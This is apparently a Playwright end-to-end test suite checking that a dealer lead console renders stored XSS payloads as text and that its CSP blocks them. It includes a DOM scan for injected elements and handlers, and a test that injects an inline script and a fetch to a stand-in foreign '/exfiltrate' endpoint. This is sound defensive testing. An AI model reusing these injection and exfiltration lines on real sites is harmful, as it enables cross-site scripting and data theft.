/**
 * Hostile content (issue 4): names, messages, notes, labels, campaign names and notes, user and
 * tenant names carrying HTML and script payloads (support/hostile-corpus.ts) are shown as text;
 * no script runs, no dialog opens, no request leaves the host, no element of theirs reaches the
 * DOM; and the document's CSP would stop them if a screen ever slipped.
 *
 * The data: the demo dealer group with the payloads written into it as the cloud would store
 * them (support/hostile-demo.ts), loaded into the replica before the host opens it, exactly as
 * the local demo is loaded. The page is watched from before it loads.
 *
 * What is checked where is two lists: leadSurfaces (run for every hostile lead: its queue row,
 * lead header, thread, details pane, composer preview, status menu) and PAGE_SURFACES (once:
 * filter panel, saved replies, the Appointments page, account menu...). A new panel that shows
 * lead or store text is one more entry. User names that only live state shows (the lead-lock
 * banner, the queue's lock, who is viewing) are checked on a cloud and two PCs at the end.
 */
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeInTenant } from '../../../src-cloud/sync/tenant-write';
import {
  DEMO_FIXTURE_LEAD,
  DEMO_PASSWORD,
  DEMO_TENANT,
  DEMO_USERS,
} from '../../../src-shared/demo';
import { storeDayOf } from '../../../src-shared/domain/store-day';
import type { User } from '../../../src-shared/domain/user';
import { startConsole, type ConsoleFixture } from '../support/console-fixture';
import type { ConsolePage } from '../support/console-page';
import { FOREIGN_ORIGIN, HOSTILE_PAYLOADS, PWNED_FLAG } from '../support/hostile-corpus';
import { writeHostileReplica, type HostileDemo, type HostileLead } from '../support/hostile-demo';
import { startSyncedDesktops, type Desktop, type SyncedDesktops } from '../support/synced-desktops';

/** Live state crosses a cloud: long enough for a slow machine, over as soon as it arrives. */
const SYNC_WAIT_MS = 60_000;

interface Watch {
  dialogs: string[];
  /** Every request the page asked for, sent or not (one refused by the CSP is here too). */
  requests: string[];
  /** url -> why it failed, for the requests that did not complete. */
  failed: Map<string, string>;
  sockets: string[];
}

interface LeadSurface {
  name: string;
  /** Runs with the lead's row found by its id (the only row) and the lead open. */
  check(page: Page, console: ConsolePage, lead: HostileLead): Promise<void>;
}

interface PageSurface {
  name: string;
  check(page: Page, demo: HostileDemo, console: ConsolePage): Promise<void>;
}

/** The text of one element exactly as the DOM holds it (no whitespace folding). */
const textOf = async (locator: Locator) => (await locator.textContent()) ?? '';

/** The store a hostile lead is with, as the demo wrote it. */
function storeOf(demo: HostileDemo, lead: HostileLead) {
  const store = demo.stores.find((s) => s.id === lead.storeId);
  if (!store) throw new Error(`no store ${lead.storeId}`);
  return store;
}

/** Whether the open lead's composer can be written in (a Dead lead's cannot). */
async function composerOpen(page: Page): Promise<boolean> {
  const composer = page.getByTestId('composer');
  await composer.waitFor();
  await page
    .locator('[data-testid="composer"]:not([data-disabled="true"]) textarea:not([disabled])')
    .or(page.getByTestId('composer-disabled-reason'))
    .first()
    .waitFor();
  return (await composer.getAttribute('data-disabled')) === 'false';
}

/** Leads whose composer preview was checked (a Dead lead's composer is off). */
const previewed = new Set<string>();

const leadSurfaces = (demo: () => HostileDemo): LeadSurface[] => [
  {
    name: 'queue row: name, last message, campaign, notes excerpt',
    check: async (_page, console, lead) => {
      const row = console.queueRow(lead.id);
      expect(await textOf(row.getByTestId('queue-row-name'))).toBe(lead.name);
      expect(await textOf(row.getByTestId('queue-row-preview'))).toBe(lead.preview);
      if (lead.campaignName) {
        expect(await textOf(row.getByTestId('queue-row-origin'))).toContain(lead.campaignName);
      }
      if (lead.notesExcerpt) {
        // The icon is described by the excerpt, and shows it as a tooltip on focus.
        const icon = row.getByTestId('notes-icon');
        const describedBy = await icon.getAttribute('aria-describedby');
        const page = row.page();
        expect(await textOf(page.locator(`[id="${describedBy}"]`))).toBe(lead.notesExcerpt);
        await icon.focus();
        expect(await textOf(page.getByTestId('notes-excerpt'))).toBe(lead.notesExcerpt);
        await icon.press('Escape');
        await page.getByTestId('notes-excerpt').waitFor({ state: 'detached' });
      }
    },
  },
  {
    name: 'lead header: name',
    check: async (page, _console, lead) => {
      expect(await textOf(page.getByTestId('lead-header').getByTestId('lead-name'))).toBe(
        lead.name,
      );
    },
  },
  {
    name: 'thread: every message body and attachment name, every note and event',
    check: async (page, console, lead) => {
      const items = await console.readWholeThread();
      const ids = new Set(items.map((i) => i.id));
      for (const [id, text] of lead.messageTexts) {
        expect(ids.has(id), `message ${id} shown`).toBe(true);
        const item = page.locator(`[data-testid="thread-item"][data-id="${id}"]`);
        // Images load once in view: bring it there and let every one settle (shown or not).
        for (const image of await item.getByTestId('message-image').all()) {
          await image.scrollIntoViewIfNeeded();
        }
        const pending = item.locator('[data-testid="message-image"][aria-busy="true"]');
        await expect.poll(() => pending.count()).toBe(0);
        expect(await textOf(item.getByTestId('message-body'))).toBe(text);
      }
      for (const [id, text] of lead.eventTexts) {
        expect(ids.has(id), `event ${id} shown`).toBe(true);
        const item = page.locator(`[data-testid="thread-item"][data-id="${id}"]`);
        expect(await textOf(item.locator('.event-text'))).toBe(text);
      }
    },
  },
  {
    name: 'details pane: name, store, label chip',
    check: async (page, _console, lead) => {
      const details = page.locator(`[data-testid="lead-details"][data-lead-id="${lead.id}"]`);
      await details.waitFor();
      expect(await textOf(details.getByTestId('details-name'))).toBe(lead.name);
      const store = storeOf(demo(), lead);
      expect(await textOf(details.getByTestId('details-store'))).toBe(store.name);
      const chip = details.locator(
        `[data-testid="details-label"][data-label-id="hostile-label-${demo().leads.indexOf(lead) + 1}"]`,
      );
      // The dot (no text), the name, the remove button's ×.
      expect(await textOf(chip)).toBe(`${lead.labelName}×`);
      expect(await chip.getByTestId('details-label-remove').getAttribute('aria-label')).toBe(
        `Remove label ${lead.labelName}`,
      );
    },
  },
  {
    name: 'details pane: notes in the extended info, with their authors',
    check: async (page, _console, lead) => {
      const extended = page.getByTestId('lead-details').getByTestId('details-extended');
      // Read once the pane has the lead's notes ("Reading…" until then).
      const notes = extended.getByTestId('details-note');
      if (lead.noteTexts.size) await notes.first().waitFor();
      else await extended.getByText('No notes yet.').waitFor();
      expect(await notes.locator('.details-note-text').allTextContents()).toEqual(
        [...lead.noteTexts.values()].map(() => lead.payload.text),
      );
      const authors = [...demo().users.map((u) => u.name), 'Showroom'];
      for (const meta of await notes.locator('.details-note-meta').allTextContents()) {
        expect(
          authors.some((name) => meta.startsWith(`${name} · `)),
          meta,
        ).toBe(true);
      }
    },
  },
  {
    name: 'details pane: client details (store name, street) and campaign notes in red',
    check: async (page, _console, lead) => {
      const client = page.getByTestId('lead-details').getByTestId('details-client');
      const store = storeOf(demo(), lead);
      expect(await textOf(client.getByTestId('details-campaign-notes'))).toBe(store.campaignNotes);
      expect(await textOf(client.locator('strong').first())).toBe(store.name);
      expect(await textOf(client.locator('.details-text').first())).toContain(store.address.street);
    },
  },
  {
    name: 'composer preview: smart fields filled from the lead and store names, literally',
    check: async (page, _console, lead) => {
      if (!(await composerOpen(page))) return;
      const input = page.getByTestId('composer-input');
      const store = storeOf(demo(), lead);
      const template = 'Hi {lead.fullName}! {store.name} here.';
      await input.fill(template);
      const preview = page.getByTestId('composer-preview-text');
      await preview.waitFor();
      expect(await textOf(preview)).toBe(`Hi ${lead.name}! ${store.name} here.`);
      expect(await page.getByTestId('composer-field-problems').count()).toBe(0);
      await input.fill('');
      await preview.waitFor({ state: 'detached' });
      previewed.add(lead.id);
    },
  },
  {
    name: 'status menu (queue row and lead header)',
    check: async (page, console, lead) => {
      for (const picker of [
        console.queueRow(lead.id).getByTestId('status-picker'),
        page.getByTestId('lead-header').getByTestId('status-picker'),
      ]) {
        await picker.click();
        const menu = page.getByTestId('status-menu');
        await menu.waitFor();
        expect(await menu.getAttribute('aria-label')).toBe(`Status of ${lead.name}`);
        await page.keyboard.press('Escape');
        await menu.waitFor({ state: 'detached' });
      }
    },
  },
];

/** Opens every filter section (they stay open). */
async function openFilters(page: Page): Promise<void> {
  for (const kind of ['storeIds', 'campaignIds', 'labelIds', 'assigneeIds', 'sources']) {
    const section = page.getByTestId(`filter-${kind}`);
    if ((await section.getAttribute('open')) === null) await section.locator('summary').click();
  }
}

const optionTexts = (page: Page, kind: string) =>
  page.locator(`[data-testid="filter-option-${kind}"]`).allTextContents();

/** Opens the first hostile lead whose composer can be written in. */
async function openWritableLead(page: Page, console: ConsolePage, demo: HostileDemo) {
  for (const lead of demo.leads) {
    await console.search(lead.id);
    await console.openLead(lead.id);
    if (await composerOpen(page)) return lead;
  }
  throw new Error('no hostile lead can be written to');
}

const PAGE_SURFACES: PageSurface[] = [
  {
    name: 'filter panel: labels, campaigns, assignees',
    check: async (page, demo) => {
      await openFilters(page);
      const labels = (await optionTexts(page, 'labelIds')).join('\n');
      for (const label of demo.labels) expect(labels).toContain(label.name);
      const campaigns = (await optionTexts(page, 'campaignIds')).join('\n');
      for (const campaign of demo.campaigns) expect(campaigns).toContain(campaign.name);
      const assignees = (await optionTexts(page, 'assigneeIds')).join('\n');
      for (const user of demo.users) expect(assignees).toContain(user.name);
    },
  },
  {
    name: 'header: the signed-in user and tenant',
    check: async (page, demo) => {
      const shown = await textOf(page.getByTestId('signed-in-as'));
      expect(shown).toContain(demo.tenantName);
      expect(demo.users.some((u) => shown.startsWith(u.name))).toBe(true);
    },
  },
  {
    name: 'saved replies picker: titles and bodies',
    check: async (page, demo, console) => {
      await openWritableLead(page, console, demo);
      await page.getByTestId('composer-saved-replies').click();
      await page.locator('[data-testid="saved-replies"][data-loading="false"]').waitFor();
      for (const reply of demo.savedReplies) {
        const item = page.locator(`[data-testid="saved-reply"][data-id="${reply.id}"]`);
        // Every store's reply: the title alone, no "this store" after it.
        expect(await textOf(item.locator('.saved-reply-title')), reply.id).toBe(reply.title);
        expect(await textOf(item.locator('.saved-reply-body')), reply.id).toBe(reply.body);
      }
      await page.keyboard.press('Escape');
      await page.getByTestId('saved-replies').waitFor({ state: 'detached' });
      await console.search('');
    },
  },
  {
    name: 'Appointments page: store names, rows with lead names, vehicles and notes',
    check: async (page, demo) => {
      await page.getByTestId('tab-appointments').click();
      await page.getByTestId('appointments-page').waitFor();
      const picker = page.getByTestId('appointments-store');
      const shownStores = await picker.locator('option').evaluateAll((options: unknown[]) =>
        options.map((o) => {
          const option = o as { value: string; textContent: string | null };
          return [option.value, option.textContent ?? ''];
        }),
      );
      for (const [id, text] of shownStores) {
        expect(text).toBe(demo.stores.find((s) => s.id === id)?.name);
      }
      const storeIds = new Set(shownStores.map(([id]) => id));
      const days = new Map<string, { storeId: string; day: string }>();
      for (const a of demo.appointments.filter((a) => storeIds.has(a.storeId))) {
        const zone = demo.stores.find((s) => s.id === a.storeId)!.timeZone;
        const day = storeDayOf(a.startsAt, zone);
        days.set(`${a.storeId} ${day}`, { storeId: a.storeId, day });
      }
      expect(days.size, 'hostile appointments in the stores shown').toBeGreaterThan(0);
      let checked = 0;
      for (const { storeId, day } of days.values()) {
        await picker.selectOption(storeId);
        await page.getByTestId('appointments-day').fill(day);
        await page
          .locator(
            `[data-testid="appointments-page"][data-store-id="${storeId}"][data-day="${day}"][data-loading="false"]`,
          )
          .waitFor();
        for (const a of demo.appointments) {
          const row = page.locator(
            `[data-testid="appointments-row"][data-appointment-id="${a.id}"]`,
          );
          if (a.storeId !== storeId || !(await row.count())) continue;
          expect(await textOf(row.getByTestId('appointments-lead')), a.id).toBe(a.leadName);
          expect(await textOf(row.getByTestId('appointments-vehicle')), a.id).toBe(a.vehicle);
          expect(await textOf(row.getByTestId('appointments-note')), a.id).toBe(a.note);
          checked++;
        }
      }
      expect(checked).toBe(demo.appointments.filter((a) => storeIds.has(a.storeId)).length);
      await page.getByTestId('tab-conversations').click();
      await page.getByTestId('folder-inbox').waitFor();
    },
  },
  {
    name: 'account menu open',
    check: async (page) => {
      await page.getByTestId('user-menu').click();
      await page.getByTestId('user-menu-items').waitFor();
      await page.keyboard.press('Escape');
    },
  },
];

/**
 * Runs in the page (a string: this file is type-checked without the DOM library). Lists every
 * element a payload would have brought in, or an attribute that would act: script beyond the
 * app's own bundle, frames, objects, forms, base and refresh, foreign stylesheets and images,
 * inline handlers, javascript: links, anything pointing at the foreign origin.
 */
const FIND_INJECTED = `(() => {
  const foreign = ${JSON.stringify(FOREIGN_ORIGIN)};
  const found = [];
  const describe = (el) => el.outerHTML.slice(0, 160);
  for (const el of document.querySelectorAll('script')) {
    const src = el.getAttribute('src') || '';
    if (!src || !new URL(src, location.href).href.startsWith(location.origin + '/')) found.push(describe(el));
  }
  const banned = 'iframe, frame, object, embed, form, base, meta[http-equiv="refresh" i], link[rel~="stylesheet" i][href^="http"], template, noscript, math, x-card, video, audio, details[ontoggle]';
  for (const el of document.querySelectorAll(banned)) found.push(describe(el));
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.trim().toLowerCase();
      const acts = name.startsWith('on') || name === 'srcdoc' ||
        (['src', 'href', 'action', 'data', 'formaction', 'style', 'background', 'poster'].includes(name) &&
          (value.startsWith('javascript:') || value.includes(foreign) || value.includes('url(')));
      if (acts) found.push(name + ' on ' + describe(el));
    }
  }
  return found;
})()`;

/**
 * Listens to a page from before it loads: its dialogs, requests, sockets, and every CSP refusal
 * (one means something tried to load or run; init scripts run through the DevTools protocol,
 * which the CSP does not govern).
 */
function watchPage(page: Page, watch: Watch): void {
  page.on('dialog', (dialog) => {
    watch.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => watch.requests.push(request.url()));
  page.on('requestfailed', (request) =>
    watch.failed.set(request.url(), request.failure()?.errorText ?? 'failed'),
  );
  page.on('websocket', (socket) => watch.sockets.push(socket.url()));
  void page.addInitScript(`
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push(e.violatedDirective + ' ' + e.blockedURI);
    });
  `);
}

/** No payload ran, opened a dialog, left an element, broke the CSP or talked elsewhere. */
async function expectNothingActedOn(
  page: Page,
  watch: Watch,
  origin: string,
  where: string,
): Promise<void> {
  expect(await page.evaluate(`typeof window.${PWNED_FLAG}`), where).toBe('undefined');
  expect(watch.dialogs, where).toEqual([]);
  expect(await page.evaluate(FIND_INJECTED), where).toEqual([]);
  expect(await page.evaluate('window.__cspViolations'), where).toEqual([]);
  const foreign = watch.requests.filter(
    (url) => !url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:'),
  );
  expect(foreign, where).toEqual([]);
  const wsOrigin = origin.replace(/^http/, 'ws');
  expect(
    watch.sockets.filter((url) => !url.startsWith(`${wsOrigin}/`)),
    where,
  ).toEqual([]);
}

describe('hostile content is shown as text and never acts', () => {
  let fx: ConsoleFixture;
  let demo: HostileDemo;
  const watch: Watch = { dialogs: [], requests: [], failed: new Map(), sockets: [] };

  beforeAll(async () => {
    fx = await startConsole({
      prepareDataDir: (dir) => {
        demo = writeHostileReplica(dir, Date.now());
      },
      beforeLoad: (page) => watchPage(page, watch),
    });
  });

  afterAll(async () => {
    await fx?.close();
  });

  const expectNothingActed = (where: string) =>
    expectNothingActedOn(fx.page, watch, fx.host.origin, where);

  it('the hostile data covers at least 30 payloads in every kind of field', () => {
    expect(HOSTILE_PAYLOADS.length).toBeGreaterThanOrEqual(30);
    expect(new Set(HOSTILE_PAYLOADS.map((p) => p.id)).size).toBe(HOSTILE_PAYLOADS.length);
    expect(demo.leads.map((l) => l.payload.id)).toEqual(HOSTILE_PAYLOADS.map((p) => p.id));
    for (const lead of demo.leads) {
      expect(lead.messageTexts.size, lead.payload.id).toBeGreaterThan(0);
      expect(lead.labelName, lead.payload.id).not.toBeNull();
    }
    expect(demo.leads.filter((l) => l.eventTexts.size > 0).length).toBeGreaterThan(10);
    expect(demo.stores.every((s) => s.campaignNotes.length > 0)).toBe(true);
    expect(demo.savedReplies.length).toBeGreaterThan(20);
    expect(demo.appointments.length).toBeGreaterThan(5);
    expect(demo.leads.filter((l) => l.noteTexts.size > 0).length).toBeGreaterThan(5);
  });

  it('the console opened on the hostile data without anything acting', async () => {
    await fx.console.waitForQueue();
    await expectNothingActed('first load');
  });

  for (const surface of PAGE_SURFACES) {
    it(`${surface.name}: shown as text, nothing acts`, async () => {
      await surface.check(fx.page, demo, fx.console);
      await expectNothingActed(surface.name);
    });
  }

  it('every hostile lead: each lead surface shows its payloads as text, nothing acts', async () => {
    for (const lead of demo.leads) {
      // Found by its id (a search key): the only row, whatever its name does to the search.
      await fx.console.search(lead.id);
      await fx.console.openLead(lead.id);
      for (const surface of leadSurfaces(() => demo)) {
        const where = `${surface.name}, payload ${lead.payload.id}`;
        try {
          await surface.check(fx.page, fx.console, lead);
        } catch (error) {
          throw new Error(`${where}: ${(error as Error).message}`, { cause: error });
        }
        await expectNothingActed(where);
      }
    }
    await fx.console.search('');
    // The preview was checked wherever the composer is open: most leads are not Dead.
    expect(previewed.size).toBeGreaterThan(demo.leads.length / 2);
  }, 400_000);

  it("the document's CSP forbids inline script and outside connections", async () => {
    const response = await fx.page.context().request.get(`${fx.host.origin}/`);
    expect(response.status()).toBe(200);
    const csp = parseCsp(response.headers()['content-security-policy'] ?? '');
    const scriptSrc = csp.get('script-src') ?? csp.get('default-src') ?? [];
    expect(scriptSrc).toEqual(["'self'"]);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    const connect = csp.get('connect-src') ?? [];
    expect(connect.every((s) => s === "'self'" || s === `ws://127.0.0.1:${fx.host.port}`)).toBe(
      true,
    );
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'none'"]);
    expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
    // Images come from the app or as data: URLs the core checked (attachments, GIF previews).
    expect(csp.get('img-src')).toEqual(["'self'", 'data:']);
  });

  it('the CSP in force refuses an inline script, a foreign fetch and a foreign image', async () => {
    const before = watch.requests.length;
    const outcome = await fx.page.evaluate(`(async () => {
      window.__cspViolations = [];
      const script = document.createElement('script');
      script.textContent = 'window.${PWNED_FLAG} = "inline"';
      document.body.appendChild(script);
      script.remove();
      let fetched = 'no';
      try { await fetch(${JSON.stringify(`${FOREIGN_ORIGIN}/exfiltrate`)}); fetched = 'yes'; } catch { fetched = 'refused'; }
      const img = new Image();
      const loaded = new Promise((done) => { img.onload = () => done('loaded'); img.onerror = () => done('refused'); });
      img.src = ${JSON.stringify(`${FOREIGN_ORIGIN}/pixel.png`)};
      const image = await loaded;
      await new Promise((done) => setTimeout(done, 50));
      return { pwned: typeof window.${PWNED_FLAG}, fetched, image, violations: window.__cspViolations };
    })()`);
    const { pwned, fetched, image, violations } = outcome as {
      pwned: string;
      fetched: string;
      image: string;
      violations: string[];
    };
    expect(pwned).toBe('undefined');
    expect(fetched).toBe('refused');
    expect(image).toBe('refused');
    expect(violations.some((v) => v.startsWith('script-src'))).toBe(true);
    expect(violations.some((v) => v.startsWith('connect-src'))).toBe(true);
    expect(violations.some((v) => v.startsWith('img-src'))).toBe(true);
    // Chromium reports the image it was asked for, then refuses it: nothing left the machine.
    const foreign = watch.requests.slice(before).filter((url) => !url.startsWith(fx.host.origin));
    for (const url of foreign) expect(watch.failed.get(url), url).toMatch(/csp/i);
  });
});

/** `directive value value; ...` as a map of directive to its sources. */
function parseCsp(header: string): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of header.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

/** Who the synced case renames, and to which payload (user names are at most 200 characters). */
const LOCK_NAMES = {
  agent: HOSTILE_PAYLOADS.find((p) => p.id === 'quote-breakout')!.text,
  manager: HOSTILE_PAYLOADS.find((p) => p.id === 'img-onerror')!.text,
};

describe('hostile user names in the lead-lock banner (a cloud and two PCs)', () => {
  let pcs: SyncedDesktops;
  let agent: Desktop;
  let manager: Desktop;
  const watches = new Map<Desktop, Watch>();
  const agentUser = DEMO_USERS.find((u) => u.email === 'agent1@demo.test')!;
  const managerUser = DEMO_USERS.find((u) => u.role === 'manager')!;

  beforeAll(async () => {
    pcs = await startSyncedDesktops(2);
    [agent, manager] = pcs.desktops as [Desktop, Desktop];
    // The cloud stores the names as an admin's edit would: through its sync writer, so the
    // desktops pull them like any other change.
    await writeInTenant(pcs.cloud.db, DEMO_TENANT.id, async (tx, write) => {
      for (const [id, name] of [
        [agentUser.id, LOCK_NAMES.agent],
        [managerUser.id, LOCK_NAMES.manager],
      ] as const) {
        const [found] = await tx.query<{ row: User }>(
          'SELECT row FROM users WHERE tenant_id = $1 AND id = $2',
          [DEMO_TENANT.id, id],
        );
        if (!found) throw new Error(`no demo user ${id}`);
        await write.update('users', { ...found.row, name });
      }
    });
    for (const [pc, who] of [
      [agent, agentUser],
      [manager, managerUser],
    ] as const) {
      const watch: Watch = { dialogs: [], requests: [], failed: new Map(), sockets: [] };
      watches.set(pc, watch);
      // Watched from the page's next load on: this one, signed out.
      watchPage(pc.page, watch);
      await pc.page.reload();
      await pc.sitDown();
      await pc.signIn.signIn({
        cloudUrl: pcs.cloud.url,
        email: who.email,
        password: DEMO_PASSWORD,
      });
      await pc.console.waitUntilOpen();
      await pc.page
        .locator('[data-testid="connection-indicator"][data-state="online"]')
        .waitFor({ timeout: SYNC_WAIT_MS });
    }
  }, 240_000);

  afterAll(async () => {
    await pcs?.close();
  });

  const nothingActed = async (where: string) => {
    for (const pc of [agent, manager]) {
      await expectNothingActedOn(pc.page, watches.get(pc)!, pc.host.origin, where);
    }
  };

  async function openDana(pc: Desktop): Promise<void> {
    await pc.sitDown();
    await pc.console.search(DEMO_FIXTURE_LEAD.name);
    await pc.console.queueRow(DEMO_FIXTURE_LEAD.id).waitFor({ timeout: SYNC_WAIT_MS });
    await pc.console.openLead(DEMO_FIXTURE_LEAD.id);
  }

  /** The banner's words on a PC once it names `holder`, exactly. */
  async function bannerNaming(pc: Desktop, holder: string): Promise<void> {
    const text = pc.page.getByTestId('lead-lock-banner').locator('.banner-text');
    await expect
      .poll(async () => (await text.count()) && textOf(text), { timeout: SYNC_WAIT_MS })
      .toBe(`${holder} is in this lead. You can read the conversation; only they can write in it.`);
  }

  it('the names arrived and the consoles opened without anything acting', async () => {
    expect(await textOf(agent.page.getByTestId('signed-in-as'))).toContain(LOCK_NAMES.agent);
    expect(await textOf(manager.page.getByTestId('signed-in-as'))).toContain(LOCK_NAMES.manager);
    await nothingActed('signed in');
  });

  it("an agent reads the manager's name in the banner, the queue's lock; nothing acts", async () => {
    await openDana(manager);
    await openDana(agent);
    await bannerNaming(agent, LOCK_NAMES.manager);
    const lock = agent.console.queueRow(DEMO_FIXTURE_LEAD.id).getByTestId('queue-row-lock');
    await lock.waitFor({ timeout: SYNC_WAIT_MS });
    expect(await lock.getAttribute('aria-label')).toBe(`${LOCK_NAMES.manager} is in this lead`);
    expect(await lock.getAttribute('title')).toBe(`${LOCK_NAMES.manager} is in this lead`);
    // The holder sees who else is viewing.
    const viewers = manager.page.getByTestId('lead-viewers');
    await viewers.waitFor({ timeout: SYNC_WAIT_MS });
    expect(await textOf(viewers)).toBe(`Viewing: ${LOCK_NAMES.agent}`);
    await nothingActed('lock held by the manager');
  });

  it("the manager reads the agent's name in the banner, with Take over; nothing acts", async () => {
    await manager.sitDown();
    await manager.console.search('');
    const other = (await manager.console.visibleLeadIds()).find(
      (id) => id !== DEMO_FIXTURE_LEAD.id,
    );
    if (!other) throw new Error('the manager sees no other lead');
    await manager.console.openLead(other);
    await agent.page
      .getByTestId('lead-lock-banner')
      .waitFor({ state: 'detached', timeout: SYNC_WAIT_MS });
    await openDana(manager);
    await bannerNaming(manager, LOCK_NAMES.agent);
    await manager.page.getByTestId('lead-take-over').waitFor();
    await nothingActed('lock held by the agent');
  });
});
